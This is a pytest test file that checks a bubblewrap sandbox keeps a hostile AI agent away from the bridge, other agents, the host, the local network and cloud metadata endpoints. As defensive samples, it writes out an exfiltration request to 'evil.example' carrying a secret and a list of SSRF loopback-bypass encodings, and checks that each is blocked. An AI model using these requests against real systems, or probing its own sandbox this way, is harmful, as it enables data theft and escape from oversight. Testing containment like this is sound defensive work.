"""A hostile agent looks for a way to the bridge, to other agents, to this machine and its network.

Attacks 6 to 9 at their root: with isolation an agent has a network of its own.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from app.children.sandbox import Bubblewrap, find_bubblewrap
from app.config.network import normalise_host
from tests.support import inside
from tests.support.bridge import SECONDS
from tests.support.observe import Observed, demo
from tests.support.outside import PUBLIC
from tests.support.platform import Platform

FOUND = find_bubblewrap(os.environ["PATH"])
pytestmark = pytest.mark.skipif(
    not (isinstance(FOUND, Bubblewrap) and FOUND.own_network),
    reason="bubblewrap gives no network of its own here",
)
EVIL = "93.184.215.99"
"""Another address that is taken for one on the internet."""
WIRE = "168.63.129.16"
"""Azure's wire server: public by its number, inside of every machine there."""


class Server:
    """An HTTP server of this machine, on every address, that remembers who came."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        seen = self.seen

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                seen.append(self.path)
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        self._server = ThreadingHTTPServer(("0.0.0.0", 0), Handler)
        self.port = self._server.server_port
        threading.Thread(target=self._server.serve_forever, args=(0.01,), daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture(scope="module")
def local() -> Iterator[Server]:
    """Something that listens on this machine: a database, a model, another agent's server."""
    server = Server()
    yield server
    server.close()


@pytest.fixture(scope="module")
def public() -> Iterator[Server]:
    server = Server()
    yield server
    server.close()


@pytest.fixture(scope="module")
def evil() -> Iterator[Server]:
    server = Server()
    yield server
    server.close()


@pytest.fixture(scope="module")
def wire() -> Iterator[Server]:
    server = Server()
    yield server
    server.close()


@pytest.fixture(scope="module")
def bridge(
    tmp_path_factory: pytest.TempPathFactory,
    local: Server,
    public: Server,
    evil: Server,
    wire: Server,
) -> Iterator[Observed]:
    apart: dict[str, Any] = {"mode": "free", "sandbox": "bubblewrap"}
    hosts = ["public.example", f"127.0.0.1:{local.port}"]
    agents = {
        "demo": demo(**apart),
        "second": demo(**apart),
        "listed": demo(**apart, network="restricted", network_hosts=hosts),
        "shut": demo(**apart, network="none"),
    }
    names = {
        "public.example": [PUBLIC],
        "evil.example": [EVIL],
        "rebind.example": ["127.0.0.1"],
        "both.example": [PUBLIC, "127.0.0.1"],
        "bridge.localhost": ["127.0.0.1"],
        "wire.example": [WIRE],
    }
    routes = {PUBLIC: public.port, EVIL: evil.port}
    routes |= dict.fromkeys((WIRE, f"::ffff:{WIRE}", "64:ff9b::a83f:8110"), wire.port)
    with Platform() as platform:
        folder = tmp_path_factory.mktemp("network")
        with Observed(folder, platform, agents=agents, names=names, routes=routes) as observed:
            yield observed


def tried(bridge: Observed, place: str, words: str, agent: str = "demo") -> str:
    """Let an agent try something from inside its sandbox; returns what came of it."""
    shown = bridge.ask(place, command(words), agent)["text"]
    assert "ended with status 0" in shown, shown
    return str(shown.rpartition("status 0.")[2].strip("\n` "))


def command(words: str) -> str:
    return f"run {sys.executable} {Path(inside.__file__)} {words}"


def recorded(bridge: Observed, words: str) -> bool:
    """Tell whether the transcript has a notice with these words."""
    query = "select count(*) from transcript where kind = 'notice' and text like ?"
    return bool(bridge.rows(query, f"%{words}%")[0][0])


def card(bridge: Observed, agent: str) -> str:
    return str(bridge.http.get(f"/api/v1/agents/{agent}").json()["isolation"])


def own_address() -> str:
    """Tell the address of this machine in the network around it; nothing is sent."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        try:
            line.connect(("192.0.2.1", 9))
        except OSError:
            return ""
        return str(line.getsockname()[0])


def free_port() -> int:
    with socket.create_server(("127.0.0.1", 0)) as line:
        return int(line.getsockname()[1])


def test_what_an_agent_serves_is_its_own_and_no_browser_on_this_machine_reaches_it(
    bridge: Observed,
) -> None:
    """Attack 6: cookies know no ports, so a dev server of an agent would get the operator's."""
    port = free_port()

    assert tried(bridge, "dev server", f"serve {port}") == "status 200"

    with pytest.raises(httpx.ConnectError):
        httpx.get(f"http://127.0.0.1:{port}/", trust_env=False)


def test_an_agent_cannot_take_the_port_where_the_command_line_looks_for_the_bridge(
    bridge: Observed,
) -> None:
    """Attack 8: it listens on the default port; whoever sends a token there must not reach it."""
    port = free_port()
    tried(bridge, "in wait", f"serve {port}", "second")

    with pytest.raises(ConnectionRefusedError):
        socket.create_connection(("127.0.0.1", port), SECONDS)


def test_an_agent_does_not_reach_the_bridge_over_loopback(bridge: Observed) -> None:
    """Attacks 7 and 9."""
    assert "no connection" in tried(bridge, "direct", f"get http://127.0.0.1:{bridge.port}/healthz")
    assert "no connection" in tried(bridge, "dialled", f"dial 127.0.0.1 {bridge.port}")
    assert "no connection" in tried(bridge, "by six", f"dial ::1 {bridge.port}")


@pytest.mark.parametrize(
    "host",
    [
        "127.0.0.1",
        "localhost",
        "LOCALHOST.",
        "bridge.localhost",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[64:ff9b::7f00:1]",
        "2130706433",
        "0x7f000001",
        "127.1",
        "0",
        "0.0.0.0",
        "rebind.example",
        "both.example",
    ],
)
def test_the_proxy_leads_nowhere_on_this_machine_under_any_name(
    bridge: Observed, host: str
) -> None:
    """Attacks 7 and 9."""
    answer = tried(bridge, "proxy", f"connect {host}:{bridge.port}")

    assert answer == "HTTP/1.1 403 Forbidden"
    assert recorded(bridge, f"Network: refused {normalise_host(host)}:{bridge.port}, ")


def test_the_bridge_is_out_of_reach_of_plain_requests_too(bridge: Observed) -> None:
    """Attacks 7 and 9."""
    url = f"http://rebind.example:{bridge.port}/api/v1/sessions"
    assert tried(bridge, "plain", f"get {url}") == "status 403"
    assert recorded(bridge, f"Network: refused rebind.example:{bridge.port}, ")


def test_no_agent_reaches_what_another_one_serves(bridge: Observed) -> None:
    """Attack 9."""
    port = free_port()
    assert tried(bridge, "its server", f"serve {port}", "second") == "status 200"

    assert "no connection" in tried(bridge, "reaching", f"get http://127.0.0.1:{port}/")
    assert "403" in tried(bridge, "reaching by proxy", f"connect 127.0.0.1:{port}")


def test_this_machine_is_not_reached_by_its_address_in_the_local_network(
    bridge: Observed, local: Server
) -> None:
    """Attack 9."""
    address = own_address() or pytest.skip("this machine is in no network")

    assert "no connection" in tried(bridge, "lan", f"dial {address} {local.port}")
    assert "403" in tried(bridge, "lan by proxy", f"connect {address}:{local.port}")
    assert recorded(bridge, f"Network: refused {address}:{local.port}, not an address on the inte")


@pytest.mark.parametrize(
    "address",
    ["169.254.169.254", "10.0.0.1", "192.168.1.1", "100.64.0.1", "[fe80::1]", "[fd00::1]"],
)
def test_no_agent_reaches_cloud_metadata_or_the_local_network(
    bridge: Observed, address: str
) -> None:
    """Attack 9."""
    assert "403" in tried(bridge, "around", f"connect {address}:80")
    assert "no connection" in tried(bridge, "around", f"dial {address.strip('[]')} 80")
    assert recorded(bridge, f"Network: refused {address.strip('[]')}:80, ")


@pytest.mark.parametrize(
    "host", [WIRE, "2822734096", f"[::ffff:{WIRE}]", "[64:ff9b::a83f:8110]", "wire.example"]
)
def test_no_agent_reaches_the_wire_server_of_its_cloud(
    bridge: Observed, wire: Server, host: str
) -> None:
    assert "403" in tried(bridge, "wire", f"connect {host}:80")
    assert tried(bridge, "wire", f"get http://{host}/machine?comp=goalstate") == "status 403"
    assert recorded(bridge, f"Network: refused {normalise_host(host)}:80, ")
    assert wire.seen == []


def test_an_agent_with_an_open_network_reaches_the_internet(
    bridge: Observed, public: Server
) -> None:
    assert tried(bridge, "internet", "get http://public.example/from-inside") == "status 200"
    assert "200" in tried(bridge, "tunnel", "connect public.example:443")
    assert "/from-inside" in public.seen


def test_an_agent_sends_nothing_to_a_host_that_is_not_on_its_list(
    bridge: Observed, evil: Server, public: Server
) -> None:
    """Attack 9: a file is carried out to a host of the attacker's."""
    number = bridge.begin("carry out", command("get http://evil.example/?secret=abc"), "listed")
    (ask,) = bridge.open_asks(place="carry out")
    (title, subject) = bridge.rows("select title, subject from ask where id = ?", ask)[0]
    bridge.answer(ask, "reject", "listed")

    assert "status 403" in bridge.end("carry out", number, "listed")["text"]
    assert (title, subject) == (
        "Let listed connect to evil.example for this session?",
        "evil.example:80",
    )
    ((data,),) = bridge.rows("select data from transcript where kind = 'ask' and text = ?", title)
    (fact,) = json.loads(data)["view"]["facts"]
    assert (fact["kind"], fact["text"]) == ("host", "evil.example")
    assert evil.seen == []
    assert recorded(bridge, "Network: refused evil.example:80, not on this agent's list.")
    # Whoever said no is not asked again, and what is listed works.
    assert tried(bridge, "carry out", "get http://evil.example/", "listed") == "status 403"
    assert tried(bridge, "carry out", "get http://public.example/listed", "listed") == "status 200"
    assert "/listed" in public.seen


def test_a_host_that_people_allow_stays_allowed_for_that_session_alone(
    bridge: Observed, evil: Server
) -> None:
    number = bridge.begin("granted", command("get http://evil.example/granted"), "listed")
    (ask,) = bridge.open_asks(place="granted")
    bridge.answer(ask, "allow", "listed")

    assert "status 200" in bridge.end("granted", number, "listed")["text"]
    assert tried(bridge, "granted", "get http://evil.example/again", "listed") == "status 200"
    assert evil.seen == ["/granted", "/again"]

    other = bridge.begin("not granted", command("get http://evil.example/other"), "listed")
    (ask,) = bridge.open_asks(place="not granted")
    bridge.answer(ask, "reject", "listed")
    assert "status 403" in bridge.end("not granted", other, "listed")["text"]


def test_a_listed_agent_is_not_helped_by_addresses(bridge: Observed) -> None:
    """Attack 9."""
    assert "403" in tried(bridge, "by address", f"connect {EVIL}:443", "listed")
    assert recorded(bridge, f"Network: refused {EVIL}:443, not on this agent's list.")


def test_a_local_server_that_the_operator_listed_is_found_on_the_agents_own_loopback(
    bridge: Observed, local: Server
) -> None:
    url = f"http://127.0.0.1:{local.port}/model"

    assert tried(bridge, "model", f"get {url}", "listed") == "status 200"
    assert "/model" in local.seen
    assert "no connection" in tried(bridge, "model", f"get {url}")


def test_an_agent_without_a_network_reaches_nothing_and_still_works(bridge: Observed) -> None:
    assert "no connection" in tried(bridge, "shut", "get http://public.example/", "shut")
    assert tried(bridge, "shut", f"serve {free_port()}", "shut") == "status 200"


def test_one_agent_does_not_take_all_connections_of_the_bridge(bridge: Observed) -> None:
    said = tried(bridge, "many", "many 300 public.example:443")

    assert said == "128 open"
    assert bridge.http.get("/healthz").status_code == 200
    assert tried(bridge, "many", "get http://public.example/after") == "status 200"


def test_card_and_log_say_what_the_network_is(bridge: Observed) -> None:
    assert card(bridge, "shut") == "isolated (bubblewrap), network: none"
    assert card(bridge, "demo") == "isolated (bubblewrap), network: internet only"
    assert card(bridge, "listed") == "isolated (bubblewrap), network: only hosts on its list"
